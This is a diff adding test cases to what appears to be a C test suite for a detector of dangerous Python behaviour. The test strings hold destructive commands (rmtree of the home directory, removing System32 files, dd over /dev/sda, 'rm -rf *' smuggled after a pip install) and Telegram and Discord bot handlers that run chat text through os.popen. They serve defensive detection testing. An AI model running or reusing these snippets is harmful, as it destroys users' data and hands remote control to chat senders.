@@ -497,6 +497,21 @@ static void but_seen(void)
 		    2));
 	CHECK(shows("import os\nos.remove('c:\\\\windows\\\\system32\\\\cmd.exe')",
 		    MPY_BEH_DESTROY_ALL, 2));
+	CHECK(shows("import os, shutil\nshutil.rmtree(os.path.expanduser('~'))",
+		    MPY_BEH_DESTROY_ALL, 2));
+	CHECK(shows("from pathlib import Path\nimport shutil\n"
+		    "shutil.rmtree(Path.home())", MPY_BEH_DESTROY_ALL, 3));
+	CHECK(lacks("import os, shutil\n"
+		    "shutil.rmtree(os.path.expanduser('~/.cache/x'))",
+		    MPY_BEH_DESTROY_ALL));
+	CHECK(lacks("from pathlib import Path\nimport shutil\n"
+		    "shutil.rmtree(Path.home() / '.cache')",
+		    MPY_BEH_DESTROY_ALL));
+	CHECK(shows("import os\nos.remove('C:/Windows/System32/x.exe')",
+		    MPY_BEH_DESTROY_ALL, 2));
+	CHECK(lacks("import os\nos.system('pip install -i "
+		    "https://x.invalid/simple a; rm -rf *')",
+		    MPY_BEH_DESTROY_ALL));
 	CHECK(is_ordinary("import shutil\n"
 			  "shutil.rmtree('C:\\\\Windows\\\\Temp\\\\x')"));
 	CHECK(shows("import os\nos.system('dd if=/dev/zero of=/dev/sda')",
@@ -556,6 +571,16 @@ static void but_seen(void)
 		    "for m in c.conversations_history(channel=h)['messages']:\n"
 		    "  subprocess.getoutput(m['text'])",
 		    MPY_BEH_CHAT_CONTROL, 4));
+	/* what the decorator says, whatever the parameter is called */
+	CHECK(shows("import telebot, os\nb = telebot.TeleBot(t)\n"
+		    "@b.message_handler(commands=['x'])\ndef f(q):\n"
+		    "  os.popen(q.text)", MPY_BEH_CHAT_CONTROL, 5));
+	CHECK(shows("import discord, os\n@bot.command()\n@owner()\n"
+		    "async def f(c, *, line):\n  os.popen(line)",
+		    MPY_BEH_CHAT_CONTROL, 5));
+	CHECK(lacks("import telebot, os\nb = telebot.TeleBot(t)\n"
+		    "@b.message_handler()\ndef f(q):\n  pass\n"
+		    "def g(q):\n  os.popen(q)", MPY_BEH_CHAT_CONTROL));
 }
 
 static void names_are_complete(void)
